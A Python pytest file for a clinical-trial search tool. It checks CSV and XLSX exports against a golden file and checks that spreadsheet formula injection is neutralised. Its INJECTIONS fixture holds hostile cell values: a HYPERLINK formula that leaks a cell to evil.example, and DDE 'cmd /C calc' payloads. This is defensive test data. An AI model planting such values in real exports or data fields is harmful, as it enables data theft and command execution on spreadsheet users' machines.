"""Exports: a golden CSV holds the columns and their content; formula-like text is neutralised.

The golden file ``tests/data/golden/search_targeted.csv`` is the output of
``trialfinder search --format csv --category targeted --status all --setting all`` on the bundled
snapshot (an empty cache dir, so nothing else can be read). When a deliberate change alters it (new column,
better classification), regenerate it with ``REGENERATE=1 pytest tests/test_export_golden.py`` and
review the diff before committing.
"""

from __future__ import annotations

import copy
import csv
import io
import json
import os
from itertools import zip_longest
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from trialfinder.cli import cli
from trialfinder.find import export
from paths import AML_STUDIES

GOLDEN = Path(__file__).resolve().parent / "data" / "golden" / "search_targeted.csv"
GOLDEN_ARGS = ["search", "--format", "csv", "--category", "targeted", "--status", "all", "--setting", "all"]
UNSET = ("TRIALFINDER_API_URL", "TRIALFINDER_SNAPSHOT_DIR", "TRIALFINDER_OFFLINE")
TEMPLATE = "NCT00462761"  # a real record: AC220 (quizartinib), 5 US sites


def run(args: list[str], cache_dir: Path, snapshot_dir: Path | None = None) -> Result:
    env: dict[str, str | None] = {name: None for name in UNSET}
    env["TRIALFINDER_CACHE_DIR"] = str(cache_dir)
    if snapshot_dir is not None:
        env["TRIALFINDER_SNAPSHOT_DIR"] = str(snapshot_dir)
    result = CliRunner().invoke(cli, args, env=env)
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert result.exit_code == 0, result.stderr
    return result


def test_golden_csv(tmp_path: Path) -> None:
    result = run(GOLDEN_ARGS, tmp_path / "cache")
    assert "data: bundled snapshot" in result.stderr
    if os.environ.get("REGENERATE") == "1":
        GOLDEN.parent.mkdir(parents=True, exist_ok=True)
        GOLDEN.write_text(result.stdout, encoding="utf-8", newline="")
        pytest.skip(f"regenerated {GOLDEN}")
    assert GOLDEN.exists(), "no golden file; run once with REGENERATE=1"
    expected = GOLDEN.read_text(encoding="utf-8")
    assert result.stdout.splitlines()[0] == expected.splitlines()[0], "the CSV columns changed"
    if result.stdout != expected:
        pairs = zip_longest(expected.splitlines(), result.stdout.splitlines(), fillvalue="<none>")
        line, (want, got) = next(((i, p) for i, p in enumerate(pairs, 1) if p[0] != p[1]),
                                (0, ("(same lines)", "(line endings differ)")))
        pytest.fail(f"line {line} differs from {GOLDEN.name} (REGENERATE=1 rewrites it if the change is "
                    f"intended):\n  golden: {want[:300]}\n  now:    {got[:300]}")


def test_golden_file_itself() -> None:
    """The committed file: export.COLUMNS, then the eligibility columns appended after them (issue 18),
    only targeted trials, one timestamp."""
    rows = list(csv.reader(io.StringIO(GOLDEN.read_text(encoding="utf-8"))))
    assert rows[0] == export.COLUMNS + export.ELIGIBILITY_COLUMNS
    body = [dict(zip(rows[0], r)) for r in rows[1:]]
    assert len(body) > 100
    assert all("targeted" in r["categories"].split(";") for r in body)
    assert {r["data_timestamp"] for r in body} == {"2025-03"}
    assert len({r["nct_id"] for r in body}) == len(body)


# --- formula neutralisation ---------------------------------------------------------------------

INJECTIONS = {
    "NCT99000001": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "NCT99000002": "+cmd|' /C calc'!A0",
    "NCT99000003": "@SUM(1+1)*cmd|' /C calc'!A0",
    "NCT99000004": "-2+3",
    "NCT99000005": "\tx",
}
SAFE_TITLE = "A perfectly ordinary title"


@pytest.fixture(scope="module")
def snapshot(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A temporary snapshot folder with COPIES of one real fixture record, edited to carry hostile
    titles and sponsors (the bundled fixtures are never touched); the CLI reads it through
    TRIALFINDER_SNAPSHOT_DIR."""
    folder = tmp_path_factory.mktemp("snapshot")
    record = json.loads((AML_STUDIES / f"{TEMPLATE}.json").read_text(encoding="utf-8"))
    variants = {**INJECTIONS, "NCT99000006": SAFE_TITLE}
    for nct, title in variants.items():
        study = copy.deepcopy(record)
        ps = study["protocolSection"]
        ps["identificationModule"]["nctId"] = nct
        ps["identificationModule"]["briefTitle"] = title
        ps["sponsorCollaboratorsModule"]["leadSponsor"]["name"] = title
        (folder / f"{nct}.json").write_text(json.dumps(study), encoding="utf-8")
    (folder / "SNAPSHOT.json").write_text(json.dumps({"data_timestamp": "2025-03"}), encoding="utf-8")
    return folder


def expected_cell(title: str) -> set[str]:
    """What a hostile value may become: quote-prefixed, or (leading whitespace being stripped when the
    record is read) a value that no longer starts with a formula character."""
    allowed = {"'" + title}
    stripped = title.strip()
    if stripped != title:
        allowed |= {stripped} if not stripped.startswith(export.FORMULA_START) else {"'" + stripped}
    return allowed


def test_formulas_neutralised_in_csv(snapshot: Path, tmp_path: Path) -> None:
    result = run(["search", "--format", "csv", "--status", "all"], tmp_path / "cache", snapshot)
    rows = {r["nct_id"]: r for r in csv.DictReader(io.StringIO(result.stdout))}
    assert set(rows) == set(INJECTIONS) | {"NCT99000006"}
    for nct, title in INJECTIONS.items():
        for column in ("title", "sponsor"):
            assert rows[nct][column] in expected_cell(title), (column, rows[nct][column])
            assert not rows[nct][column].startswith(export.FORMULA_START)
    assert rows["NCT99000006"]["title"] == SAFE_TITLE
    # every cell of every row is safe
    for row in rows.values():
        assert not any(v.startswith(export.FORMULA_START) for v in row.values())


def test_formulas_neutralised_in_xlsx(snapshot: Path, tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    out = tmp_path / "trials.xlsx"
    run(["search", "--format", "xlsx", "--output", str(out), "--status", "all", "--text", "=HYPERLINK"],
        tmp_path / "cache", snapshot)
    book = openpyxl.load_workbook(out)
    sheet = book["Trials"]
    header = [c.value for c in sheet[1]]
    assert header == export.COLUMNS + export.ELIGIBILITY_COLUMNS
    cells = {}
    for row in sheet.iter_rows(min_row=2):
        values = dict(zip(header, row))
        cells[values["nct_id"].value] = values
    assert set(cells) == {"NCT99000001"}  # --text matched the hostile title literally
    for column in ("title", "sponsor"):
        cell = cells["NCT99000001"][column]
        assert cell.data_type == "s", f"{column} was stored as a formula"
        assert cell.value == "'" + INJECTIONS["NCT99000001"]
    # no cell anywhere in the workbook is a formula
    for ws in book.worksheets:
        for row in ws.iter_rows():
            assert all(c.data_type != "f" for c in row)
    # the filter text on the Search sheet carries the hostile text too, harmlessly
    search = {r[0]: r[1] for r in book["Search"].iter_rows(min_row=2, values_only=True)}
    assert "=HYPERLINK" in search["filters"]


def test_all_injections_neutralised_in_xlsx(snapshot: Path, tmp_path: Path) -> None:
    openpyxl = pytest.importorskip("openpyxl")
    out = tmp_path / "all.xlsx"
    run(["search", "--format", "xlsx", "--output", str(out), "--status", "all"], tmp_path / "cache", snapshot)
    sheet = openpyxl.load_workbook(out)["Trials"]
    header = [c.value for c in sheet[1]]
    titles = {r[header.index("nct_id")]: r[header.index("title")] for r in sheet.iter_rows(min_row=2, values_only=True)}
    for nct, title in INJECTIONS.items():
        assert titles[nct] in expected_cell(title)


def test_header_is_export_columns(snapshot: Path, tmp_path: Path) -> None:
    plain = run(["search", "--format", "csv", "--status", "all"], tmp_path / "cache", snapshot)
    assert next(csv.reader(io.StringIO(plain.stdout))) == export.COLUMNS + export.ELIGIBILITY_COLUMNS
    near = run(["search", "--format", "csv", "--status", "all", "--near", "85719"], tmp_path / "cache", snapshot)
    # (issue 19: the nearest site's contact is added after the columns that were there; none moves;
    # issue 18: the eligibility facts come last)
    extra = ["nearest_site_contact", *export.ELIGIBILITY_COLUMNS]
    assert next(csv.reader(io.StringIO(near.stdout))) == export.COLUMNS + export.NEAR_COLUMNS + ["distance_mi"] + extra
    assert export.NEAR_COLUMNS == ["nearest_site", "nearest_site_status"]
    km = run(["search", "--format", "csv", "--status", "all", "--near", "85719", "--km"], tmp_path / "cache", snapshot)
    assert next(csv.reader(io.StringIO(km.stdout))) == export.COLUMNS + export.NEAR_COLUMNS + ["distance_km"] + extra
